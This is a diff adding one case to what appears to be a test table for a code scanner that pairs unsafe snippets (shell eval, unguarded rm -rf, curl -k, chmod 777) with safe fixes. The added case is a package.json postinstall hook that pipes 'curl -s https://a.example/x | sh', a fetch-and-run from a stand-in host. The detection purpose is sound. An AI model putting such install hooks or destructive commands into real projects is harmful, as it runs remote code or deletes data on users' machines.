@@ -235,6 +235,7 @@ CASES = [
     ("Shell", 'cd "$d"\nrm -rf *\n', 'cd "$d" || exit 1\nrm -rf *\n', "removes-elsewhere"),
     ("Shell", 'eval "tar $1"\n', 'tar "$1"\n', "eval-of-arguments"),
     ("Shell", 'eval "tar -C $folder ."\n', 'tar -C "$folder" .\n', "eval-of-values"),
+    ("JSON", '{"scripts": {"postinstall": "curl -s https://a.example/x | sh"}}\n', '{"scripts": {"postinstall": "husky"}}\n', "runs-at-install"),
     ("Shell", "curl -k https://example.org\n", "curl https://example.org\n", "tls-off"),
     ("Shell", "chmod 777 a\n", "chmod 755 a\n", "open-to-all"),
     ("Shell", "find . -delete -name a\n", "find . -name a -delete\n", "deletes-first"),
